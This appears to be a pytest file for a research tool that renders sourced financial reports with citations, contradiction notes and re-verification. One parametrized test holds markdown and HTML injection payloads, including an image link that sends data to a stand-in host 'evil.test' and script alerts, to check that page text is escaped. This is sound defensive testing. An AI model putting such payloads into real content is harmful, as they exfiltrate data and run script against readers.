import re
from datetime import UTC, date, datetime
from typing import Any

import pytest

from researcher.facts.indexed_source import IndexedSource
from researcher.reports.report import NOT_ADVICE, render
from researcher.sources.source import Source, Unread, text_hash
from researcher.verify.bundle import (
    Bundle,
    ClaimRecord,
    Contradiction,
    KnownRecord,
    StatedValue,
    record,
    verify_bundle,
)
from researcher.verify.check import check
from researcher.verify.draft import Calculation, Claim, KeyFigure, Operand, Quote
from tests.support.pages import OUTLOOK, RESULTS

ROW = "| Revenue | $412.6 | $378.5 |"
RISK = "suppliers of optical parts account for 38% of purchases, which the company calls a risk"


def source(key: str, text: str, **more: object) -> Source:
    values = {
        "key": key,
        "url": f"http://site.test/{key}",
        "title": f"Page {key}",
        "text": text,
        "sha256": "ab" * 32,
        "text_sha256": text_hash(text),
        "retrieved": datetime(2026, 8, 3, 9, 30, tzinfo=UTC),
        "via": "http",
        "published": date(2026, 8, 2),
    }
    return Source.model_validate(values | more)


SOURCES = [source("S1", RESULTS), source("S2", OUTLOOK)]
INDEXED = {s.key: IndexedSource(s) for s in SOURCES}


def told(number: int, place: str, text: str, key: str, quote: str) -> ClaimRecord:
    claim = Claim(text=text, quotes=[Quote(source=key, text=quote)])
    return record(place, f"C{number}", claim, check(claim, INDEXED))


def figure(number: int, period: str, value: str) -> ClaimRecord:
    figure = KeyFigure(
        name="Revenue", period=period, value=value, quotes=[Quote(source="S1", text=ROW)]
    )
    checked = record("key figures", f"C{number}", figure.claim, check(figure.claim, INDEXED))
    return checked.model_copy(update={"figure": figure})


def bundle(**more: object) -> Bundle:
    claims = [
        told(1, "summary", "Suppliers of optical parts account for 38% of purchases.", "S2", RISK),
        figure(2, "Three Months Ended June 30, 2026", "$412.6 million"),
        figure(3, "Three Months Ended June 30, 2025", "$378.5 million"),
        told(4, "Results", "Revenue was $412.6 million.", "S1", ROW),
        told(5, "Results", "Revenue was $999.9 million.", "S1", ROW),
    ]
    values: dict[str, Any] = {
        "job_id": "job",
        "report_id": "report-1",
        "subject": "Northwind",
        "tickers": ["NWI"],
        "title": "Northwind results",
        "as_of": datetime(2026, 8, 3, 10, tzinfo=UTC),
        "provider": "offline",
        "model": "offline extractive model (no language model)",
        "via": "http",
        "sources": SOURCES,
        "unread": [],
        "claims": claims,
    }
    return Bundle.model_validate(values | more)


def test_it_says_what_it_is_made_of() -> None:
    text = render(bundle())
    for part in (
        "# Northwind results",
        "As of 3 August 2026",
        "Tickers: NWI",
        "Written by: offline extractive model (no language model)",
        "over plain HTTP, for no browser was available",
        NOT_ADVICE,
    ):
        assert part in text
    assert "in a browser" in render(bundle(via="browser"))


def test_every_claim_is_cited_and_every_citation_leads_to_a_source() -> None:
    text = render(bundle())
    assert "- Suppliers of optical parts account for 38% of purchases. [1]" in text
    assert "- Revenue was $412.6 million. [2]" in text
    cited = set(re.findall(r" \[(\d)\]", text))
    listed = set(re.findall(r"^(\d)\. Page", text, re.MULTILINE))
    assert cited == listed == {"1", "2"}


def test_sources_are_told_with_address_time_and_hash() -> None:
    assert (
        "2. Page S1. <http://site.test/S1>. Published 2 August 2026."
        f" Retrieved 2026-08-03 09:30 UTC over plain HTTP. SHA-256 `{'ab' * 32}`"
    ) in render(bundle())


def test_key_figures_stand_in_a_table() -> None:
    lines = render(bundle()).splitlines()
    row = lines.index("| Revenue | $412.6 million | $378.5 million | [2] |")
    assert lines[row - 2] == (
        "|  | Three Months Ended June 30, 2026 | Three Months Ended June 30, 2025 | Source |"
    )


def test_what_failed_is_counted_but_not_told() -> None:
    text = render(bundle())
    assert "999.9" not in text
    assert "1 statement was left out: a number, date or name that no quote bears (1)." in text


def test_contradicting_values_are_told_with_who_states_them() -> None:
    here, there = (
        StatedValue(value=value, source=key, url=f"http://site.test/{key}", quote=ROW)
        for value, key in (("$412.6 million", "S1"), ("$410.0 million", "S2"))
    )
    before = StatedValue(
        value="$400 million", report="report-0", url="http://site.test/S1", quote=ROW
    )
    found = [
        Contradiction(measure="Revenue", period="Q2 2026", values=(here, there)),
        Contradiction(measure="Revenue", period="", values=(before, here), restated="It is so."),
    ]
    text = render(bundle(contradictions=found))
    assert "## Contradictions" in text
    assert "- Revenue (Q2 2026): $412.6 million [2], but $410.0 million [1]." in text
    assert "- Revenue: $400 million in the report `report-0` from <http://site.test/S1>," in text
    assert "The newer source says: “It is so.”" in text
    assert "## Contradictions" not in render(bundle())


def test_a_calculated_figure_shows_its_working() -> None:
    start = ("$412.6 million", "$378.5 million")
    growth = Calculation(
        result="9.0%",
        formula="(now - then) / then",
        operands=[
            Operand(name=name, value=value, quote=Quote(source="S1", text=ROW))
            for name, value in zip(("now", "then"), start, strict=True)
        ],
    )
    claim = Claim(
        text="Revenue rose 9.0% to $412.6 million.",
        quotes=[Quote(source="S1", text=ROW)],
        calculations=[growth],
    )
    checked = record("summary", "C1", claim, check(claim, INDEXED))
    assert checked.reasons == []
    assert (
        "- Revenue rose 9.0% to $412.6 million. [1]"
        " (calculated: 9.0% = ($412.6 million - $378.5 million) / $378.5 million)"
    ) in render(bundle(claims=[checked]))


def test_risks_and_what_to_watch_have_sections_of_their_own() -> None:
    claims = [
        told(1, "risks", "Suppliers of optical parts account for 38% of purchases.", "S2", RISK),
        told(2, "watch", "Suppliers are a risk to delivery.", "S2", RISK),
    ]
    text = render(bundle(claims=claims))
    assert "## Risks\n\n- Suppliers of optical parts" in text
    assert "## What would change the view\n\n- Suppliers are a risk" in text
    assert "## Analysis" not in text
    assert "## Risks" not in render(bundle())


def test_unreadable_and_partial_pages_are_named() -> None:
    text = render(
        bundle(
            unread=[
                Unread(
                    url="http://site.test/private",
                    failure="robots",
                    detail="The site forbids robots to read it.",
                )
            ],
            sources=[SOURCES[0], source("S2", OUTLOOK, partial=True)],
        )
    )
    assert "<http://site.test/private>: The site forbids robots to read it." in text
    assert "Read only in part, for it exceeded a limit: Page S2" in text


def test_other_reports_on_the_matter_are_named() -> None:
    known = [
        KnownRecord(document_id="report-1", title="Same", kind="report", stored="2026-08-01"),
        KnownRecord(document_id="report-0", title="Older", kind="report", stored="2026-05-02"),
        KnownRecord(document_id="page-9", title="A page", kind="page", stored="2026-05-02"),
    ]
    text = render(bundle(known=known))
    assert "Older, stored 2026-05-02 (`report-0`)" in text
    assert "`report-1`" not in text
    assert "page-9" not in text


@pytest.mark.parametrize(
    "evil",
    [
        "![x](http://evil.test/leak?q=1)",
        "[click](javascript:alert(1))",
        "<img src=http://evil.test/x>",
        "<script>alert(1)</script>",
    ],
)
def test_text_of_a_page_stays_text(evil: str) -> None:
    text = render(bundle(title=evil, sources=[source("S1", RESULTS, title=evil), SOURCES[1]]))
    unescaped = re.sub(r"\\[\[\]<>`]", "", text)
    assert not re.search(r"!?\[[^\]]*\]\(|<(?!http://site\.test)", unescaped)


def test_a_bundle_survives_its_json() -> None:
    assert Bundle.model_validate_json(bundle().model_dump_json()) == bundle()


def test_a_bundle_can_be_checked_again_from_scratch() -> None:
    again = verify_bundle(Bundle.model_validate_json(bundle().model_dump_json()))
    assert again.holds
    assert set(again.verdicts) == {"C1", "C2", "C3", "C4"}


def test_checking_again_notices_a_changed_claim_and_a_changed_source() -> None:
    first, *rest = bundle().claims
    forged = first.model_copy(
        update={"text": "Suppliers of optical parts account for 83% of purchases."}
    )
    assert not verify_bundle(bundle(claims=[forged, *rest])).holds
    altered = SOURCES[1].model_copy(update={"text": OUTLOOK + "More."})
    assert verify_bundle(bundle(sources=[SOURCES[0], altered])).altered_sources == ["S2"]
